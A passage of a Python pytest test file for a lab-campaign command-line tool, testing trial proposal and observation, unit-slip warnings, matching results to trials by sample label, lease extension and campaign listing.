        _ok(cli, "campaign", "observe", "pv", "--trial", trial["trial_id"], "--value", f"gap={gap}")
    negative = cli.invoke(app, ["campaign", "observe", "pv", "--trial", trials[3]["trial_id"],
                                "--value", "gap=-1.5"])  # fmt: skip
    assert "note: gap = -1.5 eV" in " ".join(negative.output.split())  # all before are > 0
    quiet = cli.invoke(app, ["campaign", "observe", "pv", "--trial", trials[4]["trial_id"],
                             "--value", "gap=0"])  # fmt: skip
    assert quiet.exit_code == 0 and "note" not in quiet.output  # a zero is no slip
    slip = trials[5]["trial_id"]
    noted = cli.invoke(app, ["campaign", "observe", "pv", "--trial", slip, "--value", "gap=1780"])
    said = " ".join(noted.output.split())
    assert noted.exit_code == 0 and "stored 1" in said
    assert (
        f"note: gap = 1780 eV (trial {slip}) is far from the 4 results before it (-1.5 to 1.9 "
        "eV): a unit slip? It is stored; `campaign correct` replaces it"
    ) in said  # the zero is no measure of size


def test_a_first_value_after_zeros_is_no_unit_slip(cli: CliRunner, tmp_path: Path) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max:%")
    trials = json.loads(_ok(cli, "campaign", "propose", "c", "-n", "4", "--json"))
    for trial, value in zip(trials, ("0", "0", "0", "12.5"), strict=True):
        said = _ok(cli, "campaign", "observe", "c", "--trial", trial["trial_id"], "--value",
                   f"y={value}")  # fmt: skip
        assert "note" not in said


def _labelled_lab(cli: CliRunner, tmp_path: Path, labels: list[str], initial: int) -> None:
    """An --unmeasured campaign ``lab`` (objective y), its candidates named ``labels``."""
    pool = tmp_path / "pool.csv"
    pool.write_text("sample,x\n" + "".join(f"{s},{i}\n" for i, s in enumerate(labels)))
    create = ["campaign", "create", "lab", "--from-csv", str(pool), "--objective", "y:max"]
    _ok(cli, *create, "--unmeasured", "--label", "sample", "--initial", str(initial))


def test_a_results_file_may_name_each_trial_by_its_samples_label(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    _labelled_lab(cli, tmp_path, [f"S{i:02d}" for i in range(20)], initial=3)
    batch = json.loads(_ok(cli, "campaign", "propose", "lab", "-n", "3", "--json"))
    results = tmp_path / "results.csv"
    rows = [f"{t['label']},{i}" for i, t in enumerate(batch)]
    results.write_text("label,y\n" + "\n".join(rows) + "\n")
    observe = ["campaign", "observe", "lab", "--from-file", str(results)]
    assert "stored 3" in _ok(cli, *observe)
    assert "already stored 3" in _ok(cli, *observe)  # sent again: the same trials
    measured = {t["label"]: t["y"] for t in json.loads(_ok(cli, "campaign", "export", "lab",
                                                          "--format", "json"))}  # fmt: skip
    assert measured == {t["label"]: float(i) for i, t in enumerate(batch)}
    untaken = next(f"S{i:02d}" for i in range(20) if f"S{i:02d}" not in measured)
    for label, why in [
        (untaken, ": its candidate was never proposed"),
        ("S99", " is no candidate's: give trial_id"),
        ("S 00", " is no candidate's: give trial_id"),
    ]:
        results.write_text(f"label,y\n{label},1\n")
        refused = cli.invoke(app, observe)
        assert refused.exit_code == 1
        assert f"data row 1: label {label!r}{why}" in " ".join(refused.output.split())


def test_a_label_two_candidates_share_does_not_name_a_trial(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    _labelled_lab(cli, tmp_path, [f"S  {i % 5}" for i in range(10)], initial=10)
    _ok(cli, "campaign", "propose", "lab", "-n", "10")
    results = tmp_path / "results.csv"
    results.write_text("label,y\nS 1,1\n")  # as the pool keeps it: spaces collapsed
    refused = cli.invoke(app, ["campaign", "observe", "lab", "--from-file", str(results)])
    assert "data row 1: label 'S 1' names 2 candidates: give trial_id" in refused.output


def test_a_label_a_spreadsheet_took_for_a_number_still_names_its_trial(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    _labelled_lab(cli, tmp_path, ["007", "010", "0010", "7b", "12", "012"], initial=6)
    batch = {t["label"]: t for t in json.loads(_ok(cli, "campaign", "propose", "lab", "--json"))}
    results = tmp_path / "results.csv"
    observe = ["campaign", "observe", "lab", "--from-file", str(results)]
    results.write_text(f"trial_id,label,y\n{batch['007']['trial_id']},7,1\n")
    assert "stored 1" in _ok(cli, *observe)  # held against its trial's label: the same
    results.write_text("label,y\n7,1\n12,3\n")  # 12 names 12 itself, not 012
    assert "stored 1, already stored 1" in _ok(cli, *observe)  # 7 again: 007's stored one
    assert "stored 0, already stored 2" in _ok(cli, *observe)
    measured = {t["label"]: t["y"] for t in json.loads(_ok(cli, "campaign", "export", "lab",
                                                          "--format", "json"))}  # fmt: skip
    assert {k: v for k, v in measured.items() if v is not None} == {"007": 1, "12": 3}
    results.write_text("label,y\n10,2\n")
    refused = cli.invoke(app, observe)
    assert "label '10' names 2 candidates: give trial_id" in refused.output
    results.write_text(f"trial_id,label,y\n{batch['012']['trial_id']},12,1\n")
    mixed = cli.invoke(app, observe)  # 12 is a sample of its own: the rows were mixed up
    assert "label '12' is not trial" in mixed.output and "('012')" in mixed.output


def test_a_label_is_its_trials_as_a_spreadsheet_gives_digits_back() -> None:
    from matloop.cli import _zeros_dropped

    def pool() -> frozenset[str]:
        return frozenset({"007", "12", "012"})

    assert _zeros_dropped("7", "007", pool)
    assert not _zeros_dropped("12", "012", pool)  # another sample is called 12
    assert not _zeros_dropped("7", "017", pool)
    assert not _zeros_dropped("²", "2", pool)  # a digit, but no number


@pytest.mark.parametrize(
    ("cell", "value", "same"),
    [
        ("0.3", 0.2999, True),  # rounded in the file
        ("0.3", 0.24, False),
        ("3", 3, True),
        ("3", 4, False),
        ("1e400", 1.0, False),  # too large for a float: a mismatch, not a crash
        ("nan", 1.0, False),
        ("TRUE", True, True),  # as a spreadsheet writes it
        ("S  01", "S 01", True),  # as a pool keeps a label
        ("'-5x", "-5x", True),  # an export's guard against formulas
        ("7", "007", False),  # a label's dropped zeros: only against the pool's labels
        ("ethanol", "water", False),
    ],
)
def test_a_cell_is_its_trials_value_as_written(cell: str, value: object, same: bool) -> None:
    from matloop.cli import _written_as

    assert _written_as(cell, value) is same


def test_an_output_in_a_missing_folder_is_named_plainly(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n0.1,1\n0.2,2\n")
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    target = tmp_path / "out" / "a.json"
    failed = cli.invoke(app, ["campaign", "export", "c", "--output", str(target)])
    assert failed.exit_code == 1
    said = " ".join(failed.output.split())
    assert f"{target}: no such file or directory (the folder {target.parent} does not" in said
    assert "Errno" not in said


def test_leases_taken_by_hand_are_extended_by_their_holder(cli: CliRunner, tmp_path: Path) -> None:
    from db.documents import utcnow

    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    mine = json.loads(_ok(cli, "campaign", "claim", "c", "-n", "2", "--as", "alice",
                          "--hours", "1", "--json"))  # fmt: skip
    bobs = json.loads(_ok(cli, "campaign", "claim", "c", "--as", "bob", "--json"))
    said = _ok(cli, "campaign", "extend", "c", "--as", "alice", "--hours", "48")
    assert "extended 2 lease(s) held by alice until" in said
    leases = {t.id: t.lease_expires_at for t in CampaignStore().trials("c")}
    for t in mine:
        left = (leases[t["trial_id"]] - utcnow()).total_seconds() / 3600
        assert 47.9 < left <= 48
    assert (leases[bobs[0]["trial_id"]] - utcnow()).total_seconds() < 24.1 * 3600
    upper = bobs[0]["trial_id"].upper()  # an id as some tools print it
    one = _ok(cli, "campaign", "extend", "c", "--as", "bob", "--trial", upper)
    assert "extended 1 lease(s) held by bob" in one
    # as the README's example goes: claimed for 48 hours, extended by 24 (never shortened)
    kept = " ".join(_ok(cli, "campaign", "extend", "c", "--as", "alice", "--hours", "24").split())
    assert "extended" not in kept
    assert "left 2 lease(s) as they were: they already run past 24 h from now" in kept
    assert "extending never shortens one" in kept
    assert {t.id: t.lease_expires_at for t in CampaignStore().trials("c")} == leases | {
        bobs[0]["trial_id"]: CampaignStore().trial("c", bobs[0]["trial_id"]).lease_expires_at
    }
    for args, why in (
        (["--as", "carol"], "--as 'carol': no trial of campaign 'c' is leased to it"),
        (["--as", "bob", "--trial", mine[0]["trial_id"]], "leased to 'alice'; 'bob' holds no"),
        (["--trial", "xyz"], "--trial: 'xyz' is not a valid id"),
    ):
        refused = cli.invoke(app, ["campaign", "extend", "c", *args])
        assert refused.exit_code == 1 and why in " ".join(refused.output.split())


def test_trials_claimed_by_hand_are_no_instruments_and_report_after_a_close(
    cli: CliRunner, tmp_path: Path
) -> None:
    pool = tmp_path / "pool.csv"
    pool.write_text("x,y\n" + "".join(f"{i / 10},{i}\n" for i in range(10)))
    _ok(cli, "campaign", "create", "c", "--from-csv", str(pool), "--objective", "y:max")
    _ok(cli, "campaign", "propose", "c", "-n", "2")  # waiting in the queue
    mine = json.loads(_ok(cli, "campaign", "claim", "c", "-n", "2", "--json"))
    assert {t["trial_id"] for t in mine} == {
        t.id for t in CampaignStore().trials("c") if t.claimed_by == "manual"
    }
    agent = CampaignAgent(CampaignStore(), "c")
    robot = agent.claim("robot-1", count=3, lease_seconds=60)
    assert not {t.id for t in robot} & {t["trial_id"] for t in mine}  # not handed out again
    assert "may still report" in _ok(cli, "campaign", "close", "c")
    for trial in mine:  # measured by hand: taken after the close
        _ok(cli, "campaign", "observe", "c", "--trial", trial["trial_id"], "--value", "y=1")
    alice = cli.invoke(app, ["campaign", "claim", "c", "--as", "alice"])
    assert alice.exit_code == 1 and "closed" in alice.output


def test_campaign_list_gives_units_and_json(
    cli: CliRunner, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", "1000")
    pool = tmp_path / "pool.csv"
    pool.write_text("x,tc,score\n0.1,30,1\n0.2,40,2\n0.3,35,3\n")
    create = ("campaign", "create", "sc", "--from-csv", str(pool), "--param", "x")
    _ok(cli, *create, "--objective", "tc:max:K", "--objective", "score:min")
    assert "tc:max:K, score:min" in _ok(cli, "campaign", "list")  # as --objective spells them
    [listed] = json.loads(_ok(cli, "campaign", "list", "--json"))
    assert listed["name"] == "sc" and listed["status"] == "active" and listed["pool_size"] == 3
    assert listed["objectives"] == [
        {"name": "tc", "direction": "max", "unit": "K"},
        {"name": "score", "direction": "min", "unit": None},
    ]
    assert json.loads(_ok(cli, "campaign", "list", "--status", "closed", "--json")) == []
